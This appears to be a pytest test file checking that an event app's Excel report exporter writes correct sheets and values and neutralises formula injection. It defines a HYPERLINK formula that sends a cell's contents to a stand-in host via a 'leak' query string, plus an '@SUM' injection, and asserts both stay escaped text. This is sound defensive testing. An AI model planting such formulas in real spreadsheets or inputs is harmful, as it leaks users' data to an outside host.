"""The event report as an xlsx, read back with openpyxl as Excel would read it."""

from __future__ import annotations

import dataclasses
import datetime as dt
from pathlib import Path

import openpyxl
import pytest
from openpyxl.worksheet._writer import ALL_TEMP_FILES
from openpyxl.worksheet.worksheet import Worksheet

from budapest_desk.core import categories, checkin, events, registrations
from budapest_desk.core.database import Database
from budapest_desk.core.errors import Cancelled
from budapest_desk.core.people import PersonInput
from budapest_desk.core.progress import CancelToken
from budapest_desk.core.registrations import RegistrationInput
from budapest_desk.core.reports import EventReport, Tally, event_report
from budapest_desk.db.enums import CheckinKind
from budapest_desk.db.enums import RegistrationStatus as S
from budapest_desk.exporters.report_xlsx import hour_label, write_report_xlsx
from tests.exporters.samples import EVENT, HOSTILE

HYPERLINK = '=HYPERLINK("http://example.org/?leak="&A1,"Click")'
SHEETS = [
    "Summary",
    "By status",
    "By category",
    "By country",
    "Check-ins by day",
    "Check-ins by hour",
]


def _rows(ws: Worksheet) -> list[tuple[object, ...]]:
    return list(ws.iter_rows(values_only=True))


def _report(database: Database) -> EventReport:
    with database.transaction() as s:
        event = events.create_event(
            s,
            events.EventInput(
                title=HYPERLINK,
                start_date=dt.date(2027, 9, 14),
                end_date=dt.date(2027, 9, 15),
                time_zone="Asia/Tashkent",
                venue="Hilton",
                city="Tashkent",
                country="UZ",
            ),
        ).id
        hostile = categories.create_category(s, "@SUM(1+1)", "#123456").id
        delegate = next(c.id for c in registrations.list_categories(s) if c.name == "Delegate")

        def add(name: str, category: int, country: str | None, org: str = "") -> int:
            data = RegistrationInput(
                person=PersonInput("Test", name, f"{name}@example.org"),
                status=S.CONFIRMED,
                category_id=category,
                delegation_country=country,
                delegation_organisation=org,
            )
            return registrations.create_registration(s, event, data).id

        a = add("a", delegate, "UZ")
        b = add("b", delegate, "HU")
        c = add("c", hostile, None, org=HYPERLINK)
        at = dt.datetime(2027, 9, 14, 3, 30, tzinfo=dt.UTC)  # 08:30 in Tashkent
        checkin.record(s, a, CheckinKind.IN, device_time=at)
        checkin.record(s, b, CheckinKind.IN, device_time=at + dt.timedelta(hours=1))
        checkin.record(s, c, CheckinKind.IN, device_time=at + dt.timedelta(days=1))
        return event_report(s, event)


def test_the_sheets_and_their_values(database: Database, tmp_path: Path) -> None:
    report = _report(database)
    path = tmp_path / "out" / "report.xlsx"
    path.parent.mkdir()
    write_report_xlsx(path, report)
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == SHEETS

    facts = {r[0]: r[1] for r in _rows(wb["Summary"])}
    assert facts["Event"] == "'" + HYPERLINK  # text, not a formula
    assert facts["Starts"] == dt.datetime(2027, 9, 14)
    assert facts["Ends"] == dt.datetime(2027, 9, 15)
    assert facts["Venue"] == "Hilton, Tashkent, Uzbekistan"
    assert facts["Times in"] == "Asia/Tashkent"
    generated = report.generated_at.astimezone(dt.timezone(dt.timedelta(hours=5)))
    assert facts["Generated"] == generated.replace(second=0, microsecond=0, tzinfo=None)
    assert (facts["Registered"], facts["Confirmed"], facts["Attended"]) == (3, 3, 3)
    assert all(c.font.b for c in wb["Summary"]["A"])

    assert _rows(wb["By status"]) == [
        ("Status", "Registrations"),
        ("Invited", 0),
        ("Pending", 0),
        ("Confirmed", 3),
        ("Waiting list", 0),
        ("Declined", 0),
        ("Cancelled", 0),
        ("Total", 3),
    ]
    assert _rows(wb["By category"]) == [
        ("Category", "Registered", "Confirmed", "Attended"),
        ("Delegate", 2, 2, 2),
        ("'@SUM(1+1)", 1, 1, 1),
        ("Total", 3, 3, 3),
    ]
    assert _rows(wb["By country"]) == [
        ("Delegation", "Registered", "Confirmed", "Attended"),
        ("Hungary", 1, 1, 1),
        ("Uzbekistan", 1, 1, 1),
        ("'" + HYPERLINK, 1, 1, 1),
        ("Total", 3, 3, 3),
    ]
    assert _rows(wb["Check-ins by day"]) == [
        ("Day", "Check-ins"),
        (dt.datetime(2027, 9, 14), 2),
        (dt.datetime(2027, 9, 15), 1),
        ("Total", 3),
    ]
    assert _rows(wb["Check-ins by hour"]) == [
        ("Day", "Hour", "Check-ins"),
        (dt.datetime(2027, 9, 14), "08:00–09:00", 1),
        (dt.datetime(2027, 9, 14), "09:00–10:00", 1),
        (dt.datetime(2027, 9, 15), "08:00–09:00", 1),
    ]
    hostile = wb["By country"]["A4"]
    assert hostile.data_type == "s"
    assert wb["Check-ins by day"]["A2"].is_date
    assert wb["By status"]["B2"].data_type == "n"


def test_headers_are_bold_frozen_and_columns_fitted(tmp_path: Path) -> None:
    report = _sample()
    write_report_xlsx(tmp_path / "report.xlsx", report)
    wb = openpyxl.load_workbook(tmp_path / "report.xlsx")
    for name in SHEETS[1:]:
        ws = wb[name]
        assert ws.freeze_panes == "A2"
        assert all(c.font.b for c in ws[1])
        assert all(not c.font.b for c in ws[2])
        header = [c.value for c in ws[1]]
        widths = [ws.column_dimensions[chr(ord("A") + i)].width for i in range(len(header))]
        assert all(len(str(h)) < w for h, w in zip(header, widths, strict=True))
    ws = wb["By category"]
    assert all(c.font.b for c in ws[ws.max_row])  # the total row
    assert ws.column_dimensions["A"].width >= len("Head of delegation")


def test_hostile_labels_stay_text(tmp_path: Path) -> None:
    tallies = tuple(Tally(value, 1, 1, 0) for value in HOSTILE)
    report = dataclasses.replace(_sample(), by_category=tallies, by_country=tallies)
    write_report_xlsx(tmp_path / "report.xlsx", report)
    wb = openpyxl.load_workbook(tmp_path / "report.xlsx")
    for name in ("By category", "By country"):
        column = list(wb[name]["A"])[1 : len(HOSTILE) + 1]
        # (XML reads a bare CR back as a line feed: still behind the apostrophe.)
        assert [(c.value, c.data_type) for c in column] == [
            ("'" + v.replace("\r", "\n"), "s") for v in HOSTILE
        ]


def test_hour_labels() -> None:
    assert hour_label(0) == "00:00–01:00"
    assert hour_label(9) == "09:00–10:00"
    assert hour_label(23) == "23:00–24:00"


def test_progress_and_cancel_leave_no_half_file(tmp_path: Path) -> None:
    target = tmp_path / "report.xlsx"
    seen: list[tuple[int, int]] = []
    write_report_xlsx(target, _sample(), progress=lambda d, t: seen.append((d, t)))
    assert seen[0] == (0, 7)
    assert seen[-1] == (7, 7)

    target.write_bytes(b"the report of yesterday")
    token = CancelToken()
    temp_files = list(ALL_TEMP_FILES)

    def cancel_midway(done: int, total: int) -> None:
        if done == 3:
            token.cancel()

    with pytest.raises(Cancelled):
        write_report_xlsx(target, _sample(), progress=cancel_midway, cancel=token)
    assert target.read_bytes() == b"the report of yesterday"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.xlsx"]
    assert temp_files == ALL_TEMP_FILES


def _sample() -> EventReport:
    day = dt.date(2027, 5, 12)
    tallies = (Tally("Head of delegation", 2, 2, 1), Tally("Delegate", 5, 4, 3))
    return EventReport(
        event=EVENT,
        by_status=(("Invited", 0), ("Pending", 1), ("Confirmed", 6)),
        by_category=tallies,
        by_country=(Tally("Hungary", 7, 6, 4),),
        checkins_by_day=((day, 4),),
        checkins_by_hour=((day, 8, 3), (day, 9, 1)),
        totals=Tally("Total", 7, 6, 4),
        generated_at=dt.datetime(2027, 5, 12, 6, 30, tzinfo=dt.UTC),
    )
